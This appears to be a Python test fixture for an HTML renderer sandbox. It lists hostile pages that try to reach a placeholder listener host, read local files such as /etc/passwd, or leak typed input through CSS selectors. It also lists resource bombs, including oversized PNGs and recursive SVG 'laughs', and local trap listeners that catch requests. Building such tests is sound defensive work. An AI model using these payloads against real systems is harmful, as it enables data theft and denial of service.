"""Web pages that reach out, read files, or cost more than they may, and the traps for them.

@HOST@ is a listener of the test, @UDP@ one for datagrams, @FILE@ a page that everybody may read.
What a page gets from either paints it LOOT, a colour that is nowhere else.
"""

# ruff: noqa: E501

from __future__ import annotations

import base64
import socket
import struct
import threading
import zlib
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path

LOOT = (255, 0, 254)
PAINT = "background:#ff00fe"
MARK = "still here"


@dataclass(frozen=True)
class HostilePage:
    """A page, and whether it must be drawn (with MARK on it), must fail, or may do either (None)."""

    name: str
    html: str
    is_drawn: bool | None = True


def reaching(name: str, html: str) -> HostilePage:
    """A page that reaches out; what else is on it must be drawn."""
    return HostilePage(name, f"<p>{MARK}</p>{html}")


def costly(name: str, html: str, is_drawn: bool | None = None) -> HostilePage:
    """A page that costs much."""
    return HostilePage(name, html, is_drawn)


def script(code: str) -> str:
    return f"<script>{code}</script>"


NETWORK = [
    reaching("meta refresh", '<meta http-equiv="refresh" content="0;url=http://@HOST@/a">'),
    reaching("meta refresh to a file", '<meta http-equiv="refresh" content="0;url=file://@FILE@">'),
    reaching("meta refresh to a script", '<meta http-equiv="refresh" content="0;url=javascript:location=\'http://@HOST@/\'">'),
    reaching("iframe", '<iframe src="http://@HOST@/a.html"></iframe>'),
    reaching("iframe of a file", '<iframe src="file://@FILE@" width=500></iframe>'),
    reaching("iframe of a folder", '<iframe src="file:///etc/"></iframe>'),
    reaching("iframe with a page in it", '<iframe srcdoc="<img src=http://@HOST@/a.png><style>*{background:url(http://@HOST@/b)}</style>"></iframe>'),
    reaching("iframe of data", "<iframe src='data:text/html,<img src=http://@HOST@/a.png>'></iframe>"),
    reaching("iframe of a script", "<iframe src=\"javascript:'<img src=http://@HOST@/a.png>'\"></iframe>"),
    reaching("iframe of the browser's own pages", '<iframe src="chrome://version"></iframe><iframe src="view-source:http://@HOST@/"></iframe>'),
    reaching("frameset by object", '<object data="http://@HOST@/a.html" type="text/html">no</object>'),
    reaching("object of a file", '<object data="file://@FILE@" type="text/html">no</object>'),
    reaching("embed", '<embed src="http://@HOST@/a.svg"><embed src="file://@FILE@">'),
    reaching("applet and portal", '<applet code="http://@HOST@/a"></applet><portal src="http://@HOST@/"></portal><fencedframe src="http://@HOST@/"></fencedframe>'),
    reaching("picture", '<img src="http://@HOST@/a.png"><img src="//@HOST@/b.png"><img src="https://@HOST@/c.png">'),
    reaching("picture by other names", '<img src="http://localhost:@TCP@/a.svg"><img src="http://2130706433:@TCP@/a.svg"><img src="http://0.0.0.0:@TCP@/"><img src="http://[::1]:@TCP@/">'),
    reaching("picture of a file", '<img src="file://@FILE@"><img src="file:///etc/passwd">'),
    reaching("picture with a name and a password", '<img src="https://picsum.photos@@HOST@/300/200"><img src="https://picsum.photos.@HOST@/300/200">'),
    reaching("pictures to choose from", '<img srcset="http://@HOST@/a.svg 1x, http://@HOST@/b.svg 2x"><picture><source srcset="http://@HOST@/c.svg"><img src="http://@HOST@/d.svg"></picture>'),
    reaching("lazy picture", '<div style="height:3000px"></div><img loading=lazy src="http://@HOST@/a.svg" width=9 height=9>'),
    reaching("button of a picture", '<form><input type="image" src="http://@HOST@/a.svg"></form>'),
    reaching("video and audio", '<video autoplay src="http://@HOST@/v.mp4" poster="http://@HOST@/p.svg"><track default src="http://@HOST@/t.vtt"></video><audio autoplay src="http://@HOST@/a.mp3"></audio>'),
    reaching("background attributes", '<table background="http://@HOST@/a.svg"><td background="http://@HOST@/b.svg">x</table>'),
    reaching("stylesheet", '<link rel="stylesheet" href="http://@HOST@/a.css">'),
    reaching("stylesheet that is named like the right one", '<link rel="stylesheet" href="http://@HOST@/npm/tailwindcss@2.2.19/dist/tailwind.min.css">'),
    reaching("alternate stylesheet", '<link rel="alternate stylesheet" title=x href="http://@HOST@/a.css"><link rel="stylesheet" title=y href="http://@HOST@/b.css">'),
    reaching("stylesheet of a file", '<link rel="stylesheet" href="file://@FILE@"><style>@import "file://@FILE@";</style>'),
    reaching("import", '<style>@import "http://@HOST@/a.css"; @import url(//@HOST@/b.css) screen;</style>'),
    reaching("import within data", "<link rel=stylesheet href='data:text/css,@import \"http://@HOST@/a.css\";*{background:url(http://@HOST@/b.svg)}'>"),
    reaching("addresses in styles", "<style>body{background:url(http://@HOST@/a.svg);list-style:url(http://@HOST@/b.svg);cursor:url(http://@HOST@/c),auto;border-image:url(http://@HOST@/d.svg) 3}p::before{content:url(http://@HOST@/e.svg)}</style>"),
    reaching("addresses in newer styles", '<div style="width:9px;height:9px;background:image-set(url(http://@HOST@/a.svg) 1x);mask:url(http://@HOST@/b.svg);filter:url(http://@HOST@/c.svg#f);clip-path:url(http://@HOST@/d.svg#c);shape-outside:url(http://@HOST@/e.svg);float:left">x</div>'),
    reaching("styles that tell what was typed", "<style>input[value^=s]{background:url(http://@HOST@/s)}</style><input value=secret>"),
    reaching("font", "<style>@font-face{font-family:f;src:url(http://@HOST@/f.woff2)}p{font-family:f}</style>"),
    reaching("font of a file", "<style>@font-face{font-family:f;src:url(file:///usr/share/fonts/x.ttf),url(file://@FILE@)}p{font-family:f}</style>"),
    reaching("preconnect", '<link rel="preconnect" href="http://@HOST@"><link rel="preconnect" href="https://@HOST@" crossorigin>'),
    reaching("early name look-up", '<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="//@HOST@"><a href="http://leak.example/">a</a>'),
    reaching("preload", '<link rel="preload" as="image" href="http://@HOST@/a"><link rel="modulepreload" href="http://@HOST@/b.js"><link rel="preload" as="font" crossorigin href="http://@HOST@/c">'),
    reaching("prefetch", '<link rel="prefetch" href="http://@HOST@/a"><link rel="prerender" href="http://@HOST@/b"><link rel="next" href="http://@HOST@/c">'),
    reaching("icon and manifest", '<link rel="icon" href="http://@HOST@/favicon.ico"><link rel="manifest" href="http://@HOST@/m.json"><link rel="apple-touch-icon" href="http://@HOST@/t.png">'),
    reaching("old kinds of links", '<link rel="import" href="http://@HOST@/a.html"><link rel="search" href="http://@HOST@/s.xml"><link rel="pingback" href="http://@HOST@/p"><link rel="dictionary" href="http://@HOST@/d">'),
    reaching("rules to load ahead", '<script type="speculationrules">{"prerender":[{"urls":["http://@HOST@/a"],"eagerness":"immediate"}],"prefetch":[{"urls":["http://@HOST@/b"],"eagerness":"immediate"}]}</script><a href="http://@HOST@/c">c</a>'),
    reaching("base", '<base href="http://@HOST@/"><img src="a.svg"><link rel="stylesheet" href="b.css">'),
    reaching("form that is in focus", '<form action="http://@HOST@/f"><input autofocus onfocus="this.form.submit()"><button>go</button></form>'),
    reaching("links that report", '<a href="#" ping="http://@HOST@/p">a</a><img attributionsrc="http://@HOST@/t" src="http://@HOST@/u">'),
    reaching("policy that reports", '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri http://@HOST@/r"><img src="http://@HOST@/a">'),
    reaching("script", script("fetch('http://@HOST@/a');new Image().src='http://@HOST@/b';document.body.style='" + PAINT + "'")),
    reaching("script from elsewhere", '<script src="http://@HOST@/a.js"></script><script type=module src="http://@HOST@/b.js"></script><script src="data:text/javascript,fetch(\'http://@HOST@/\')"></script>'),
    reaching("handlers", "<img src=x onerror=\"location='http://@HOST@/'\"><body onload=\"location='http://@HOST@/'\"><svg onload=\"fetch('http://@HOST@/')\"></svg><details open ontoggle=\"fetch('http://@HOST@/')\">x</details>"),
    reaching("web socket", script("new WebSocket('ws://@HOST@/s');new EventSource('http://@HOST@/e');navigator.sendBeacon('http://@HOST@/b')")),
    reaching("datagrams", script("const c=new RTCPeerConnection({iceServers:[{urls:'stun:@UDP@'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))")),
    reaching("workers", script("new Worker('data:text/javascript,fetch(\"http://@HOST@/w\")');navigator.serviceWorker.register('http://@HOST@/sw.js')")),
    reaching("pop-up, print, download", script("open('http://@HOST@/');print();document.querySelector('a').click()") + '<a download href="http://@HOST@/d">d</a>'),
    reaching("drawing that reaches out", '<svg width=99 height=99><image href="http://@HOST@/a.svg" width=99 height=99 /><use href="http://@HOST@/b.svg#x"/><feImage href="http://@HOST@/c.svg"/><script href="http://@HOST@/d.js"/></svg>'),
    reaching("page within a drawing", '<svg width=300 height=200><foreignObject width=300 height=200><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://@HOST@/a.html"></iframe><img src="http://@HOST@/a.svg"></foreignObject></svg>'),
    reaching("drawing as a picture", "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"http://@HOST@/a.svg\"/><foreignObject width=\"9\" height=\"9\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"http://@HOST@/\"></iframe></foreignObject></svg>'>"),
    reaching("animated link", '<svg><a><animate attributeName="href" values="http://@HOST@/"/><text y=9>x</text></a><set attributeName="onload" to="fetch(\'http://@HOST@/\')"/></svg>'),
    reaching("formula with links", '<math href="http://@HOST@/"><mi xlink:href="http://@HOST@/">x</mi><annotation-xml encoding="text/html"><img src="http://@HOST@/"></annotation-xml></math>'),
    reaching("stylesheet instruction", '<?xml-stylesheet href="http://@HOST@/a.css"?><!DOCTYPE x SYSTEM "http://@HOST@/a.dtd">'),
    reaching("hidden root of its own", '<div><template shadowrootmode="open"><link rel=stylesheet href="http://@HOST@/a.css"><img src="http://@HOST@/a.svg"><slot></slot></template>x</div>'),
]  # fmt: skip


def _png(width: int, height: int) -> str:
    """The address of a picture that is small until it is decoded."""
    row = b"\0" * ((width + 7) // 8 + 1)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", data), (b"IEND", b""))
    body = b"".join(
        struct.pack(">I", len(d)) + n + d + struct.pack(">I", zlib.crc32(n + d)) for n, d in chunks
    )
    return "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + body).decode()


def _laughs(levels: int) -> str:
    """A drawing whose parts use each other, ten times each."""
    parts = "".join(
        f'<g id="l{n}">' + f'<use href="#l{n - 1}"/>' * 10 + "</g>" for n in range(1, levels)
    )
    return f'<svg><defs><rect id="l0" width="1" height="1"/>{parts}</defs><use href="#l{levels - 1}"/></svg>'


def _variables(levels: int) -> str:
    """Styles whose values double, level by level."""
    lines = "".join(f"--v{n}:var(--v{n - 1}) var(--v{n - 1});" for n in range(1, levels))
    return f"<style>p{{--v0:lol;{lines}content:var(--v{levels - 1})}}</style><p>x</p>"


SPIN = "<style>@keyframes s{to{transform:rotate(1turn);opacity:0}}.s{animation:s .1s linear infinite}</style>"
COST = [
    costly("nothing", "", True),
    costly("no HTML at all", "\0\x01\x02\x7f ﷺ \udcff \ud800 &#0; &#x110000; ]]>", True),
    costly("more bytes than may be", "x" * (600 << 10), False),
    costly("as many bytes as may be", "word " * (100 << 10), None),
    costly("one word", "w" * (500 << 10)),
    costly("endless animations", SPIN + '<p class="s">round</p>' * 500, True),
    costly("drawings that move", '<svg><circle r=9><animate attributeName=cx from=0 to=99 dur=".1s" repeatCount=indefinite /></circle></svg><marquee>moving</marquee><progress></progress>', True),
    costly("deep nesting", "<div>" * 90_000),
    costly("deep tables", "<table><tr><td>" * 20_000),
    costly("deep flexible boxes", '<div style="display:flex;flex-wrap:wrap;width:99%">' * 200 + "x", None),
    costly("deep grids", '<div style="display:grid;grid-template-columns:auto auto">' * 300 + "x", None),
    costly("huge table", "<table border=1>" + ("<tr>" + "<td>1" * 200) * 400),
    costly("wide spans", "<table>" + '<tr><td colspan=1000 rowspan=65534>x' * 3000),
    costly("millions of pixels high", '<div style="height:33000000px;background:linear-gradient(red,blue)">x</div>', None),
    costly("millions of pixels wide", '<div style="width:33000000px;height:99px;background:radial-gradient(red,blue)">x</div>', None),
    costly("endless grid", '<div style="display:grid;grid-template:repeat(10000000,1px)/repeat(10000000,1px)">x</div>', None),
    costly("picture bomb", f'<img src="{_png(20_000, 20_000)}">', None),
    costly("picture bombs", "".join(f'<img width={n} src="{_png(8_000, 8_000 + n)}">' for n in range(1, 20)), None),
    costly("drawing of immense size", '<img width=9 src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" width="999999" height="999999"><rect width="100%25" height="100%25"/></svg>\'>', None),
    costly("photos of immense size", "".join(f'<img src="https://picsum.photos/{n}/99999">' for n in range(4000, 4400)), None),
    costly("thousands of photos", "".join(f'<img width=1 src="https://picsum.photos/{n}">' for n in range(9000))),
    costly("thousands of stylesheets", "".join(f'<link rel=stylesheet href="https://x.y/tailwindcss@2/{n}.css">' for n in range(6000))),
    costly("thousands of frames", '<iframe srcdoc="<p>x"></iframe>' * 5000),
    costly("shadows and blurs", '<p style="filter:blur(99px);backdrop-filter:blur(99px);box-shadow:0 0 9999px 9999px #000,inset 0 0 9999px">x</p>' * 300),
    costly("filters", '<svg width=4000 height=4000><filter id=f><feTurbulence numOctaves=9999 baseFrequency=.9 /><feMorphology radius=999 /><feGaussianBlur stdDeviation=999 /></filter><rect width=4000 height=4000 filter="url(#f)"/></svg>'),
    costly("parts of parts of parts", _laughs(12)),
    costly("values of values of values", _variables(60)),
    costly("selectors that look everywhere", "<style>" + ":has(:has(x),:nth-child(2n+1 of :not(:last-child ~ *))) * * * * > * ~ *{color:red}" * 2000 + "</style>" + "<p><b><i>x</i></b></p>" * 9000),
    costly("scaled and zoomed", '<p style="transform:scale(1e9);zoom:9999;font-size:1e9px;letter-spacing:1e9px">x</p>', None),
    costly("characters on characters", ("Z" + "\u0301\u0489" * 500) * 200),
    costly("right to left to right", "\u202e\u2067\u202a" * 50_000 + "x"),
    costly("junk for fonts", "<style>" + "".join(f"@font-face{{font-family:f{n};src:url(data:font/woff2;base64,d09GMgABAAAAAA{n})}}p{{font-family:f{n}}}" for n in range(2000)) + "</style><p>x</p>"),
    costly("counters", "<style>i{counter-increment:a b c}i::after{content:counters(a,'.') counter(b,hebrew)}</style>" + "<i>" * 60_000),
    costly("columns", '<div style="columns:9999 1px">' * 40 + "x " * 9000),
    costly("never closed", "<!--" + "<style>" * 50_000),
    costly("plain text", "<plaintext>" + "<p>" * 90_000),
    costly("fields", "<input type=date><select><option>x</select>" * 9000),
    costly("for printing", "<style>@page{size:99999in}@media print{body{display:none}}</style><p>x</p>", True),
]  # fmt: skip
PAGES = NETWORK + COST


@dataclass
class Traps:
    """Listeners and a file. What arrives is noted; whoever asks is given LOOT."""

    folder: Path
    seen: list[str] = field(default_factory=list)
    _sockets: list[socket.socket] = field(default_factory=list)

    def fill(self, html: str) -> str:
        """The page with the traps' addresses in it."""
        tcp, udp = (s.getsockname()[1] for s in self._sockets)
        names = {"@HOST@": f"127.0.0.1:{tcp}", "@UDP@": f"127.0.0.1:{udp}", "@TCP@": str(tcp)}
        for name, value in {**names, "@FILE@": str(self._file())}.items():
            html = html.replace(name, value)
        return html

    def _file(self) -> Path:
        file = self.folder / "loot.html"
        if not file.exists():
            file.write_text(f'<body style="{PAINT}"><style>*{{{PAINT} !important}}</style>')
            file.chmod(0o644)
        return file

    def listen(self) -> None:
        tcp, udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for each in (tcp, udp):
            each.bind(("127.0.0.1", 0))
            self._sockets.append(each)
        tcp.listen(64)
        threading.Thread(target=self._serve, args=(tcp,), daemon=True).start()
        threading.Thread(target=self._hear, args=(udp,), daemon=True).start()

    def _serve(self, tcp: socket.socket) -> None:
        with suppress(OSError):
            while True:
                guest, _ = tcp.accept()
                with guest, suppress(OSError):
                    guest.settimeout(1)
                    self.seen.append("a connection was opened")
                    asked = guest.recv(4096).partition(b"\r\n")[0].decode(errors="replace")
                    self.seen.append(asked)
                    guest.sendall(_loot(asked))

    def _hear(self, udp: socket.socket) -> None:
        with suppress(OSError):
            while True:
                self.seen.append(f"a datagram came: {udp.recv(99)!r}")

    def close(self) -> None:
        for each in self._sockets:
            each.close()


def _loot(asked: str) -> bytes:
    kinds = {
        ".css": ("text/css", f"*{{{PAINT} !important}}"),
        ".svg": ("image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99"><rect width="99" height="99" fill="#ff00fe"/></svg>'),
    }  # fmt: skip
    path = asked.split(" ")[1] if " " in asked else ""
    kind, body = kinds.get(path[-4:], ("text/html", f'<body style="{PAINT}">'))
    head = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n"
    return f"{head}Connection: close\r\n\r\n{body}".encode()


@contextmanager
def trapped(folder: Path) -> Iterator[Traps]:
    """Listeners on this machine, and a file in `folder`."""
    traps = Traps(folder)
    traps.listen()
    try:
        yield traps
    finally:
        traps.close()
